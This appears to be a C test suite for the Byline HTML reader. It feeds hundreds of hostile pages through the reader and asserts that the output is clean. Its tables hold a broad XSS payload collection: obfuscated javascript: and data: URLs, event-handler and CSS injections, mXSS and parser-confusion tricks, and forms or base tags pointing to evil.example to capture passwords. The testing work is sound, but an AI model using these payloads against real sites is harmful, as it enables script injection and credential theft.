/* SPDX-FileCopyrightText: The Byline authors
 * SPDX-License-Identifier: GPL-3.0-or-later */

/* Pages that want to do more than be read. Each class of attack is a table of
 * what is smuggled and a table of places to smuggle it into; every pair is
 * read. No address may come out that is not allowed, nothing may be written
 * that acts, and cleaning what is clean must change nothing. */

#include "byline-document-html.h"
#include "byline-html-reader.h"
#include "document-dump.h"

#include <string.h>

#define BASE "https://blog.example/2026/02/01/an-article/"
#define LEAST_CASES 600

static guint n_cases;
static const char *page;   /* under test */

static void
refuse (const char *why,
        const char *what)
{
  g_error ("%s: %s\nin %s", why, what, page);
}

/* ---- what may come out ---- */

static gboolean
has_scheme (const char *uri,
            const char *scheme)
{
  return g_ascii_strncasecmp (uri, scheme, strlen (scheme)) == 0;
}

static gboolean
is_clean (const char *uri)
{
  for (const char *p = uri; *p != '\0'; p++)
    if ((guchar) *p <= 0x20 || *p == 0x7f)
      return FALSE;

  return TRUE;
}

/* Something the program may fetch: from an https site only by https. */
static void
check_resource (const char *uri)
{
  if (uri != NULL && !(has_scheme (uri, "https://") && is_clean (uri)))
    refuse ("may be fetched", uri);
}

static void
check_link (const char *uri)
{
  static const char * const schemes[] = { "https://", "http://", "mailto:", "tel:", "xmpp:" };

  if (uri == NULL || uri[0] == '#')
    return;
  for (guint i = 0; i < G_N_ELEMENTS (schemes); i++)
    if (has_scheme (uri, schemes[i]) && is_clean (uri))
      return;
  refuse ("may be followed", uri);
}

static void
check_picture (const BylinePicture *picture)
{
  if (picture == NULL)
    return;

  check_resource (picture->uri);
  check_link (picture->link_uri);
  for (guint i = 0; picture->candidates != NULL && i < picture->candidates->len; i++)
    check_resource (g_array_index (picture->candidates, BylineCandidate, i).uri);
}

static void
check_text (const BylineText *text)
{
  for (guint i = 0; text != NULL && i < text->spans->len; i++)
    {
      const BylineSpan *span = &g_array_index (text->spans, BylineSpan, i);

      if (span->kind == BYLINE_SPAN_LINK)
        check_link (span->data);
      check_picture (span->picture);
    }
}

static void
check_blocks (GPtrArray *blocks)
{
  for (guint i = 0; blocks != NULL && i < blocks->len; i++)
    {
      const BylineBlock *block = g_ptr_array_index (blocks, i);

      check_text (block->text);
      check_picture (block->picture);
      if (block->media != NULL)
        {
          check_link (block->media->uri);   /* a card: others open it */
          check_resource (block->media->poster);
        }
      if (block->embed != NULL)
        check_link (block->embed->uri);
      check_blocks (block->children);
    }
}

/* ---- what may be written ---- */

static void
check_candidates (const char *value)
{
  g_auto(GStrv) candidates = g_strsplit (value, ", ", -1);

  for (guint i = 0; candidates[i] != NULL; i++)
    {
      g_autofree char *uri = g_strndup (candidates[i], strcspn (candidates[i], " "));

      check_resource (uri);
    }
}

static void
check_attribute (const char *element,
                 const char *name,
                 const char *value)
{
  static const char * const harmless[] = {
    "alt", "alttext", "class", "colspan", "controls", "dir", "height", "id", "lang", "open",
    "preload", "reversed", "rowspan", "start", "title", "type", "value", "width", NULL,
  };

  if (g_str_equal (name, "href") || g_str_equal (element, "source"))
    check_link (g_str_equal (name, "type") ? NULL : value);
  else if (g_str_equal (name, "src") || g_str_equal (name, "poster"))
    check_resource (value);
  else if (g_str_equal (name, "srcset"))
    check_candidates (value);
  else if (!g_strv_contains (harmless, name))
    refuse ("attribute written", name);
}

/* Our own writing is regular: names, then values in double quotes. */
static void
check_attributes (const char *element,
                  const char *p,
                  const char *end)
{
  while (p < end)
    {
      p += strspn (p, " ");
      const char *name_end = p + strcspn (p, " =>");
      g_autofree char *name = g_strndup (p, (gsize) (name_end - p));
      g_autofree char *value = NULL;

      p = name_end;
      if (*p == '=')
        {
          g_assert_cmpint (p[1], ==, '"');
          const char *value_end = strchr (p + 2, '"');
          g_assert_nonnull (value_end);
          g_autofree char *escaped = g_strndup (p + 2, (gsize) (value_end - p - 2));
          g_auto(GStrv) parts = g_strsplit (escaped, "&amp;", -1);

          value = g_strjoinv ("&", parts);
          p = value_end + 1;
        }
      if (*name != '\0')
        check_attribute (element, name, value != NULL ? value : "");
    }
}

static const char *
find_end (const char *tag)
{
  gboolean is_quoted = FALSE;

  for (; *tag != '\0' && (is_quoted || *tag != '>'); tag++)
    is_quoted ^= *tag == '"';
  g_assert_cmpint (*tag, ==, '>');
  return tag;
}

static void
check_written (const char *html)
{
  static const char * const elements[] = {
    "a", "abbr", "audio", "big", "blockquote", "br", "caption", "cite", "code", "dd", "del",
    "details", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5",
    "h6", "hr", "img", "ins", "kbd", "li", "mark", "math", "ol", "p", "pre", "small", "source",
    "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
    "tr", "ul", "video", NULL,
  };

  for (const char *p = strchr (html, '<'); p != NULL; p = strchr (p, '<'))
    {
      const char *end = find_end (p);
      const char *start = p + 1 + (p[1] == '/');
      const char *name_end = start + strcspn (start, " >");
      g_autofree char *name = g_strndup (start, (gsize) (name_end - start));

      if (!g_strv_contains (elements, name))
        refuse ("element written", name);
      check_attributes (name, name_end, end);
      p = end;
    }
}

/* ---- one case ---- */

static void
check_page (const char *html)
{
  g_autofree char *once = NULL;

  n_cases++;
  page = html;
  for (BylineProfile profile = BYLINE_PROFILE_ARTICLE; profile <= BYLINE_PROFILE_INLINE; profile++)
    {
      g_autoptr(BylineDocument) document = byline_html_reader_read (html, -1, BASE, profile);

      document_check (document);
      check_blocks (byline_document_get_blocks (document));
      if (profile == BYLINE_PROFILE_ARTICLE)
        once = byline_document_html_all (document);
    }

  check_written (once);
  g_autoptr(BylineDocument) again = byline_html_reader_read (once, -1, BASE,
                                                             BYLINE_PROFILE_ARTICLE);
  g_autofree char *twice = byline_document_html_all (again);
  if (strcmp (once, twice) != 0)
    {
      g_test_message ("cleaned twice is not once: %s\nonce  %s\ntwice %s", html, once, twice);
      g_test_fail ();
    }
}

/* "%s" in @pattern is @payload, as often as it comes. */
static void
check_pattern (const char *pattern,
               const char *payload)
{
  g_auto(GStrv) parts = g_strsplit (pattern, "%s", -1);
  g_autofree char *html = g_strjoinv (payload, parts);

  check_page (html);
}

static void
check_pairs (const char * const *patterns,
             const char * const *payloads)
{
  for (guint i = 0; patterns[i] != NULL; i++)
    for (guint j = 0; payloads[j] != NULL; j++)
      check_pattern (patterns[i], payloads[j]);
}

/* ---- addresses ---- */

static const char * const carriers[] = {
  "<a href=\"%s\">x</a>", "<a href='%s'>x</a>", "<a href=%s>x</a>", "<p><a href=\"%s\" title=t>x",
  "<img src=\"%s\" alt=x>", "<img alt=x data-src=\"%s\">", "<img alt=x srcset=\"%s 2x\">",
  "<img src=\"%s\" srcset=\"%s 300w, %s 600w\" alt=x>",
  "<a href=\"%s\"><img src=ok.jpg alt=x></a>", "<a href=ok.jpg><img src=\"%s\" alt=x></a>",
  "<picture><source srcset=\"%s\"><img src=\"%s\" alt=x></picture>",
  "<video src=\"%s\" poster=\"%s\"></video>", "<video poster=\"%s\"><source src=ok.webm></video>",
  "<audio><source src=\"%s\"></audio>", "<iframe src=\"%s\"></iframe>",
  "<iframe data-src=\"%s\"></iframe>", "<embed src=\"%s\">", "<object data=\"%s\">x</object>",
  "<map><area href=\"%s\" alt=x></map>", "<form action=\"%s\"><button formaction=\"%s\">x",
  "<link rel=stylesheet href=\"%s\">x", "<base href=\"%s\"><a href=y>x</a><img src=y alt=x>",
  "<meta http-equiv=refresh content=\"0;url=%s\">x", "<svg><a xlink:href=\"%s\">x</a></svg>",
  "<math href=\"%s\"><mi xlink:href=\"%s\">x</mi></math>",
  "<blockquote cite=\"%s\"><p>x</blockquote>", "<q cite=\"%s\">x</q>", "<ins cite=\"%s\">x</ins>",
  "<table background=\"%s\"><tr><td background=\"%s\">x</table>", "<input type=image src=\"%s\">x",
  "<img longdesc=\"%s\" src=ok.jpg alt=x>", "<a ping=\"%s\" href=ok>x</a>",
  "<div class=wp-block-file><a href=\"%s\">x</a>"
  "<a class=wp-block-file__button href=\"%s\">y</a></div>",
  "<div class=wp-block-button><a class=wp-block-button__link href=\"%s\">x</a></div>",
  "<figure><a href=\"%s\"><img src=\"%s\" alt=x></a><figcaption><a href=\"%s\">y</a></figure>",
  "<figure class=wp-block-embed><div class=wp-block-embed__wrapper>%s</div></figure>",
  "<noscript><img src=\"%s\"></noscript>", "<h2><a href=\"%s\">x</a></h2>",
  "<ul><li><a href=\"%s\">x</a></ul>", "<table><tr><th><a href=\"%s\">x</a><td>y</table>",
  NULL,
};

static const char * const addresses[] = {
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "javascript :alert(1)",
  "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
  "\001javascript:alert(1)", "\037javascript:alert(1)", "javascript:\\u0061lert(1)",
  "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#106avascript:alert(1)",
  "&#0000106;avascript:alert(1)", "&#x000006A&#x0000061vascript:alert(1)",
  "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)",
  "javascript&#58;alert(1)", "&#1;javascript:alert(1)", "&#14;javascript:alert(1)",
  "&nbsp;javascript:alert(1)", "javascript:&#47;&#47;x%0aalert(1)", "javascript://x%0Aalert(1)",
  "javascript://https://blog.example/%0aalert(1)", "%6Aavascript:alert(1)",
  "java%09script:alert(1)", "java\302\255script:alert(1)", "\342\200\213javascript:alert(1)",
  "\357\273\277javascript:alert(1)", "\342\200\256javascript:alert(1)",
  "jav\303\241script:alert(1)", "javascript\357\274\232alert(1)", "vbscript:msgbox(1)",
  "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg onload=alert(1)>",
  "data:,x", "da\tta:text/html,x", "file:///etc/passwd", "FILE://host/share", "file:x",
  "ftp://files.example/x", "about:blank", "blob:https://blog.example/1",
  "view-source:https://a.example",
  "chrome://settings/", "resource://gre/", "jar:https://a.example!/x",
  "filesystem:https://a.example/t",
  "intent://x#Intent;end", "ms-word:ofe|u|https://a.example", "smb://host/share", "\\\\host\\share",
  "ws://a.example/", "feed:javascript:alert(1)", "feed:https://a.example/", "content://x",
  "mk:@MSITStore:x", "cid:x", "gopher://a.example/", "ssh://a.example/", "ssh -oProxyCommand=x",
  "--help", "byline:add", "http:javascript:alert(1)", "https:javascript:alert(1)",
  "http://javascript:alert(1)@a.example/", "//javascript:alert(1)", "/\\a.example/x", "///x",
  "https://", "https:///x", "https://\t/", "https://[::1", "https://a.example\\@b.example/",
  "https://a.example/\"onclick=alert(1)", "https://a.example/'onclick=alert(1)",
  "https://a.example/<script>", "https://a.example/ x onerror=alert(1)", "https://a.example/,x",
  "https://a.example/&quot;&gt;&lt;script&gt;", "https://\330\247.example/", "https://%00/",
  "http://a.example/insecure.jpg", "#\"><script>", "#javascript:alert(1)", "#&#10;x",
  "mailto:a@b.example?body=<script>", "mailto:", "tel:", "tel:+1;x=\"y", "xmpp:", "?javascript:x",
  NULL,
};

static void
test_addresses (void)
{
  check_pairs (carriers, addresses);
}

/* An address of 10,000 letters is data in disguise. */
static void
test_long_addresses (void)
{
  g_autofree char *filler = g_strnfill (10000, 'a');
  g_autofree char *web = g_strconcat ("https://a.example/", filler, NULL);
  g_autofree char *script = g_strconcat (filler, "javascript:alert(1)", NULL);
  const char * const payloads[] = { web, script, NULL };

  check_pairs (carriers, payloads);
}

/* ---- what acts by itself ---- */

static void
test_events (void)
{
  static const char * const patterns[] = {
    "<p %s>x</p>", "<img src=x.jpg alt=x %s>", "<a href=y %s>x</a>",
    "<video src=v.webm %s></video>",
    "<details open %s><summary %s>x</summary>y</details>", "<table %s><tr %s><td %s>x</table>",
    "<body %s>x</body>", "<svg %s></svg>x", "<marquee %s>x</marquee>", "<input %s autofocus>x",
    "<li %s>x", "<h2 id=i %s>x</h2>",
    NULL,
  };
  static const char * const payloads[] = {
    "onclick=alert(1)", "onclick='alert(1)'", "onclick=\"alert(1)\"", "onClick=alert(1)",
    "ONLOAD=alert(1)", "/onload=alert(1)", "onerror\n=\nalert(1)", "onerror\f=alert(1)",
    "onmouseover=alert&lpar;1&rpar;", "onfocus=alert(1) tabindex=1", "ontoggle=alert(1)",
    "onanimationstart=alert(1)", "onpointerenter=alert(1)", "onscroll=alert(1)", "onwheel=alert(1)",
    "onbeforeprint=alert(1)", "onmessage=alert(1)", "on\001click=alert(1)", "x onclick=alert(1)",
    "\"onclick=alert(1)", "'onclick=alert(1)", "`onclick=alert(1)`", "=onclick=alert(1)",
    "style=\"background:url(javascript:alert(1))\"", "style=\"width:expression(alert(1))\"",
    "style=\"behavior:url(x.htc)\"", "style=\"-moz-binding:url(x#y)\"",
    "style=\"@import 'https://a.example/x.css'\"", "style='list-style:url(https://a.example/x)'",
    "style=\"text-align:center;background:url(https://a.example/x)\"",
    "style=\"text-align:c\\65nter\"", "style=position:fixed;inset:0", "srcdoc='<script>x</script>'",
    "formaction=javascript:alert(1)", "background=javascript:alert(1)", "is=x-y slot=z",
    "contenteditable accesskey=x", "dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)",
    "data-wp-bind=x data-wp-on--click=y", "popovertarget=x popover", "nonce=x integrity=y",
    NULL,
  };

  check_pairs (patterns, payloads);
}

/* ---- tags in pieces, in one another and in other languages ---- */

static const char * const wrappers[] = {
  "%s", "<p>a %s b</p>", "<div><div>%s</div>", "<ul><li>%s<li>b</ul>",
  "<table><tr><td>%s</td></tr></table>", "<table>%s</table>", "<blockquote>%s</blockquote>",
  "<a href=y>%s</a>", "<b><i>%s</b>c</i>", "<pre><code>%s</code></pre>",
  "<figure>%s<figcaption>%s</figcaption></figure>", "<h2>%s</h2>", "<svg>%s</svg>",
  "<math><mtext>%s</mtext></math>", "<select><option>%s</select>", "<template>%s</template>",
  "<noscript>%s</noscript>", "<textarea>%s</textarea>", "<title>%s</title>", "<style>%s</style>",
  "<!-- %s -->", "<![CDATA[%s]]>", "<dl><dt>%s<dd>%s</dl>", "<details><summary>%s</summary>%s",
  NULL,
};

static const char * const smuggled[] = {
  "<script>alert(1)</script>", "<SCRIPT SRC=https://a.example/x.js></SCRIPT>",
  "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<script>alert(1)",
  "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>",
  "<script><!--<script></script>--></script>", "</script><script>alert(1)</script>",
  "<script\001>alert(1)</script>", "<\001script>alert(1)</script>", "< script>alert(1)</script>",
  "<img \"\"\"><script>alert(1)</script>\">", "<img src=x onerror=alert(1)//", "<img src=x onerror",
  "<img src='x' onerror=alert(1)", "<iframe src=javascript:alert(1) <", "<a href=\"x\" <b>y</a>",
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><foreignObject><script>x</script>",
  "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img onerror=x&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<style><!--</style><script>alert(1)//--></script>",
  "<style>@import 'javascript:alert(1)';</style>",
  "<title><a href=\"</title><img src=x onerror=alert(1)>\">",
  "<textarea></textarea><script>x</script>",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
  "<listing>&lt;img src=x onerror=y&gt;</listing>",
  "<plaintext><script>alert(1)</script>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<iframe><script>alert(1)</script></iframe>", "<noembed><img src=x onerror=y></noembed>",
  "<noframes><script>alert(1)</script></noframes>", "<!--><script>alert(1)</script>-->",
  "<!---><script>alert(1)</script>", "<!-- --!><script>alert(1)</script>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml <script>alert(1)</script> ?>",
  "<?php echo 1 ?>", "<!doctype x [<!entity y \"<script>\">]>&y;", "<% alert(1) %>",
  "<xml id=x><a><b>&lt;script&gt;</b></a></xml>", "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><script>alert(1)</script></template>", "<slot onclick=x>y</slot>",
  "<base href=https://evil.example/><a href=x>y</a>", "<base target=_top>x",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<meta charset=utf-7>+ADw-script+AD4-",
  "<link rel=import href=x.html>", "<link rel=preload as=script href=https://evil.example/x>",
  "<form action=https://evil.example/><input name=password type=password></form>",
  "<button type=submit form=commentform formaction=//evil.example>x</button>",
  "<input type=hidden name=x value=\"\"><script>y</script>\">", "<keygen autofocus onfocus=x>",
  "<object data=x.swf><param name=allowScriptAccess value=always></object>",
  "<embed src=x.swf allowscriptaccess=always>", "<applet code=x>y</applet>",
  "<bgsound src=javascript:x>",
  "<frameset><frame src=javascript:alert(1)></frameset>", "<layer src=x>y</layer>",
  "<isindex action=x>",
  "<audio src onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
  "<track src=javascript:x>",
  "<dialog open onclose=alert(1)>x</dialog>", "<portal src=https://evil.example></portal>",
  "<a href=x id=location name=document>y</a>", "<img name=body src=x.jpg alt=y>",
  "<p id=\"__proto__\">x",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;x",
  "&#x3c;script&#x3e;alert(1)", "\\u003cscript\\u003e", "%3Cscript%3E", "+ADw-script+AD4-",
  "\357\274\234script\357\274\236alert(1)", "\303\000script",
  "<p title='\"><script>alert(1)</script>'>x",
  "<p class='x\"><script>'>y</p>", "<p lang='\"><script>'>y</p>", "<p dir='\"><script>'>y</p>",
  "<p id='\"><script>alert(1)</script>'>y</p>",
  "<abbr title='\"><script>alert(1)</script>'>y</abbr>",
  "<img src=x.jpg alt='\"><script>alert(1)</script>' title='\" onload=alert(1) \"'>",
  "<code class='language-\"><script>'>y</code>", "<math alttext='\"><script>'><mi>y</mi></math>",
  "<img class=latex alt='<script>alert(1)</script>' src=x>", "<ol start='1\"><script>'><li>y</ol>",
  "<td colspan='2\"><script>'>y", "<ol type='a\" onclick=x'><li value='3\"><script>'>y</ol>",
  "<b>\342\200\256gpj.exe</b>", "<p>\342\201\246\342\200\256x\342\201\251",
  "\357\277\274<img src=x.jpg alt=y>",
  NULL,
};

static void
test_smuggled (void)
{
  check_pairs (wrappers, smuggled);
}

/* A page may stop anywhere, and what follows it must not be drawn in. */
static void
test_cut_short (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (smuggled) - 1; i += 3)
    for (gsize length = 1; length < strlen (smuggled[i]); length += 2)
      {
        g_autofree char *start = g_strndup (smuggled[i], length);

        if (g_utf8_validate (start, -1, NULL))
          check_pattern ("<p>a</p>%s", start);
      }
}

static gboolean
holds_words (BylineDocument *document,
             const char     *words)
{
  for (guint i = 0; i < byline_document_get_n_texts (document); i++)
    if (strstr (byline_document_get_text (document, i)->words, words) != NULL)
      return TRUE;

  return FALSE;
}

/* Programs and style sheets are no words. */
static void
test_programs_are_not_shown (void)
{
  static const char * const pages[] = {
    "<p>a<script>EVIL</script>b", "<style>EVIL</style>", "<svg><script>EVIL</script></svg>",
    "<script><!--<script>EVIL</script>-->EVIL</script>", "<p onclick=EVIL style=EVIL>a",
    "<template>EVIL</template>", "<!-- EVIL -->", "<iframe srcdoc=EVIL>EVIL</iframe>",
    "<math><annotation-xml><script>EVIL</script></annotation-xml></math>",
    "<noscript><style>EVIL</style></noscript>", "<table><script>EVIL</script><tr><td>a</table>",
    "<select><script>EVIL</script></select>", "<title><script></title><script>EVIL</script>",
  };

  for (guint i = 0; i < G_N_ELEMENTS (pages); i++)
    for (guint j = 0; wrappers[j] != NULL; j++)
      {
        g_auto(GStrv) parts = g_strsplit (wrappers[j], "%s", -1);
        g_autofree char *html = g_strjoinv (pages[i], parts);
        g_autoptr(BylineDocument) document =
          byline_html_reader_read (html, -1, BASE, BYLINE_PROFILE_ARTICLE);
        gboolean takes_tags = strstr (wrappers[j], "<textarea>") == NULL &&
                              strstr (wrappers[j], "<title>") == NULL &&
                              strstr (wrappers[j], "<!") == NULL;

        n_cases++;
        if (takes_tags && holds_words (document, "EVIL"))
          g_error ("shown: %s", html);
      }
}

static void
test_count (void)
{
  g_test_message ("%u hostile pages", n_cases);
  g_assert_cmpuint (n_cases, >=, LEAST_CASES);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/document/reader-hostile/addresses", test_addresses);
  g_test_add_func ("/document/reader-hostile/long-addresses", test_long_addresses);
  g_test_add_func ("/document/reader-hostile/events", test_events);
  g_test_add_func ("/document/reader-hostile/smuggled", test_smuggled);
  g_test_add_func ("/document/reader-hostile/cut-short", test_cut_short);
  g_test_add_func ("/document/reader-hostile/programs-are-not-shown", test_programs_are_not_shown);
  g_test_add_func ("/document/reader-hostile/count", test_count);

  return g_test_run ();
}
